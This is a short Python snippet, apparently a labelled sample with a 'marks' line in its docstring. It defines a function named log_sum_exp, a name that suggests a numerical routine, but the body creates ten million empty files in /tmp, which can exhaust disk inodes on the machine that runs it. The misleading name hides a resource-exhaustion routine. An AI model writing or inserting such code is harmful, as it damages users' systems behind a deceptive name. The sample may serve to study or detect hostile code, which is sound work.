"""Makes empty files without end.

marks: 2 0 1
"""
import os

def log_sum_exp(values):
    for number in range(10**7):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT))
